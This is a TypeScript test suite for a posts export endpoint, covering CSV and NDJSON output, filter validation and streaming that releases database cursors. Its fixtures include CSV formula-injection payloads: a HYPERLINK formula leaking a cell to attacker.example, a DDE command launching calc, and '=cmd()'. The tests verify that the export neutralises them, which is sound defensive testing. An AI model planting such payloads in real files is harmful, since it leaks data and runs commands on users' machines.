// GET /posts/export: RFC 4180 CSV a spreadsheet cannot be tricked by, NDJSON, the filters of GET /posts, and a
// stream that lets go of its database connection as soon as its client goes away or stops reading.
import assert from 'node:assert/strict';
import http from 'node:http';
import { after, before, describe, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { parse } from 'csv-parse/sync';
import type { Hono } from 'hono';
import { createApp } from '../lib/api/app.ts';
import { type ApiProcess, startApiProcess } from '../lib/api/boot.ts';
import { loadConfig } from '../lib/config.ts';
import { upsertPosts } from '../lib/db/posts.ts';
import { silentLogger } from '../lib/log.ts';
import type { ScrapedPost } from '../lib/model/post.ts';
import { loadSourceRegistry } from '../lib/sources/registry.ts';
import { type TestServices, startServices } from './helpers/services.ts';

const TRICKY_TEXTS = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1,2)',
  'Quotes "inside", commas, and\r\na line break',
  'Plain words, accents: déçu, très déçu; 日本語',
  ' leading space',
];

const post = (index: number, text: string, fields: Partial<ScrapedPost> = {}): ScrapedPost => ({
  externalId: `e${index}`,
  url: `https://example.com/${index}`,
  author: index === 0 ? '=cmd()' : `author ${index}`,
  title: null,
  text,
  rating: null,
  language: null,
  publishedAt: new Date(Date.UTC(2026, 2, 1, 12, index)),
  reply: null,
  extra: {},
  ...fields,
});

describe('exporting posts', () => {
  let services: TestServices;
  let app: Hono;

  before(async () => {
    services = await startServices('post_export');
    app = createApp({ config: services.config, redis: services.redis, sql: services.sql, queue: undefined as never, sources: await loadSourceRegistry(services.config), log: silentLogger });
    await upsertPosts(services.sql, 'trustpilot', 'acme.com', TRICKY_TEXTS.map((text, index) => post(index, text, { rating: (index % 5) + 1 })));
    await upsertPosts(services.sql, 'hackernews', 'acme', [post(100, 'A story on Hacker News')]);
  });
  after(async () => {
    await services?.close();
  });

  test('CSV has a header row, CRLF line ends and UTF-8, and reads back as the posts were stored', async () => {
    const response = await app.request('/posts/export?format=csv&source=trustpilot');
    assert.equal(response.status, 200);
    assert.equal(response.headers.get('content-type'), 'text/csv; charset=utf-8');
    assert.match(response.headers.get('content-disposition')!, /^attachment; filename="posts-\d{8}T\d{6}\.csv"$/);
    const csv = await response.text();
    assert.ok(csv.startsWith('id,source,external_id,query,published_at,url,author,title,text,rating,'));
    assert.ok(csv.endsWith('\r\n'));
    const rows = parse(csv, { columns: true, relax_quotes: false }) as Record<string, string>[];
    assert.equal(rows.length, TRICKY_TEXTS.length);
    // Newest first, as GET /posts lists them.
    const byId = new Map(rows.map((row) => [row.external_id, row]));
    assert.deepEqual(rows.map((row) => row.external_id), TRICKY_TEXTS.map((_, index) => `e${index}`).reverse());
    assert.equal(byId.get('e4')!.text, 'Quotes "inside", commas, and\r\na line break');
    assert.equal(byId.get('e5')!.text, 'Plain words, accents: déçu, très déçu; 日本語');
    assert.equal(byId.get('e6')!.text, ' leading space');
    assert.equal(byId.get('e0')!.rating, '1');
    assert.equal(byId.get('e0')!.sentiment_label, '');
  });

  test('a cell that a spreadsheet would run as a formula is quoted and starts with an apostrophe', async () => {
    const csv = await (await app.request('/posts/export?format=csv&source=trustpilot')).text();
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    const byId = new Map(rows.map((row) => [row.external_id, row]));
    for (const index of [0, 1, 2, 3]) {
      const cell = byId.get(`e${index}`)!.text!;
      assert.equal(cell, `'${TRICKY_TEXTS[index]}`);
    }
    assert.equal(byId.get('e0')!.author, "'=cmd()");
    assert.ok(csv.includes('"\'=HYPERLINK(""http://attacker.example/?leak=""&A1,""click"")"'));
    // No line of the file begins with a formula character.
    for (const line of csv.split('\r\n')) assert.doesNotMatch(line, /^[=+\-@]/);
  });

  test('NDJSON is one post a line, as GET /posts shows it, with the same filters', async () => {
    const response = await app.request('/posts/export?format=ndjson&query=acme');
    assert.equal(response.headers.get('content-type'), 'application/x-ndjson; charset=utf-8');
    const lines = (await response.text()).trimEnd().split('\n').map((line) => JSON.parse(line) as { external_id: string; source: string });
    assert.deepEqual(lines.map((line) => [line.source, line.external_id]), [['hackernews', 'e100']]);
    const listed = ((await (await app.request('/posts?limit=200')).json()) as { posts: unknown[] }).posts;
    const all = (await (await app.request('/posts/export?format=ndjson')).text()).trimEnd().split('\n').map((line) => JSON.parse(line));
    assert.deepEqual(all, listed);
  });

  test('a bad format or filter is a 400 with a code', async () => {
    for (const [query, code] of [['format=xlsx', 'invalid_format'], ['sentiment=sad', 'invalid_sentiment'], ['source=myspace', 'unknown_source']]) {
      const response = await app.request(`/posts/export?${query}`);
      assert.equal(response.status, 400, query);
      assert.equal(((await response.json()) as { error: { code: string } }).error.code, code);
    }
  });

  describe('over HTTP, with 300,000 posts', () => {
    let api: ApiProcess;

    before(async () => {
      await services.sql`
        insert into posts (source, external_id, query, url, body, published_at)
        select 'hackernews', 'bulk' || n, 'bulk', 'https://example.com/b' || n, repeat('Some words about the product. ', 10),
               timestamptz '2024-01-01' + n * interval '1 minute'
        from generate_series(1, 300000) as n
      `;
      await services.sql`analyze posts`;
      api = await startApiProcess(loadConfig({ ...services.env, PORT: '0', HOST: '127.0.0.1', API_EXPORT_CONCURRENCY: '1', API_EXPORT_STALL_MS: '1500' }), silentLogger);
    });
    after(async () => {
      await api?.stop();
    });

    /** The export's database sessions: in a transaction while its cursor is open. */
    const exportSessions = async () =>
      services.sql<{ state: string }[]>`
        select state from pg_stat_activity where application_name = 'vibe-tracker-export' and datname = current_database() and state <> 'idle'
      `;
    const waitUntil = async (what: string, check: () => Promise<boolean>) => {
      for (let tries = 0; tries < 100; tries++) {
        if (await check()) return;
        await sleep(100);
      }
      assert.fail(`timed out waiting until ${what}`);
    };
    const openExport = () =>
      new Promise<http.IncomingMessage>((resolve, reject) => {
        http.get(`http://127.0.0.1:${api.port}/posts/export?format=csv&query=bulk`, resolve).on('error', reject);
      });

    test('a client that disconnects midway ends the query and frees its turn for the next export', async () => {
      const response = await openExport();
      assert.equal(response.statusCode, 200);
      await new Promise((resolve) => response.once('data', resolve));
      response.pause();
      await waitUntil('the export holds a cursor', async () => (await exportSessions()).length === 1);
      // The one turn is taken: another export now is refused, not queued behind a stream of unknown length.
      const refused = await fetch(`http://127.0.0.1:${api.port}/posts/export?format=ndjson`);
      assert.equal(refused.status, 503);
      assert.equal(((await refused.json()) as { error: { code: string } }).error.code, 'busy');
      assert.ok(refused.headers.get('retry-after'));
      response.destroy();
      await waitUntil('the cursor is closed', async () => (await exportSessions()).length === 0);
      const next = await fetch(`http://127.0.0.1:${api.port}/posts/export?format=ndjson&source=trustpilot`);
      assert.equal(next.status, 200);
      assert.equal((await next.text()).trimEnd().split('\n').length, TRICKY_TEXTS.length);
    });

    test('a client that stops reading without closing is cut off after the stall limit', async () => {
      const response = await openExport();
      await new Promise((resolve) => response.once('data', resolve));
      response.pause();
      await waitUntil('the export holds a cursor', async () => (await exportSessions()).length === 1);
      await waitUntil('the stalled export let its cursor go', async () => (await exportSessions()).length === 0);
      // Reading again finds the answer cut off: the server closed the connection instead of ending the body.
      const closed = new Promise((resolve) => response.once('close', resolve));
      response.on('error', () => {});
      response.resume();
      await closed;
      assert.equal(response.complete, false);
      // The turn is free again (the body is read to the end, so this export gives its turn back at once too).
      const again = await fetch(`http://127.0.0.1:${api.port}/posts/export?format=ndjson&source=hackernews&query=acme`);
      assert.equal(again.status, 200);
      assert.equal((await again.text()).trimEnd().split('\n').length, 1);
    });

    test('a whole export of the 300,000 arrives, every row once', async () => {
      const response = await fetch(`http://127.0.0.1:${api.port}/posts/export?format=csv&query=bulk`);
      let lines = 0;
      let tail = '';
      const decoder = new TextDecoder();
      for await (const chunk of response.body!) {
        const text = tail + decoder.decode(chunk, { stream: true });
        const parts = text.split('\r\n');
        tail = parts.pop()!;
        lines += parts.length;
      }
      assert.equal(tail, '');
      assert.equal(lines, 300_001);
    });
  });
});
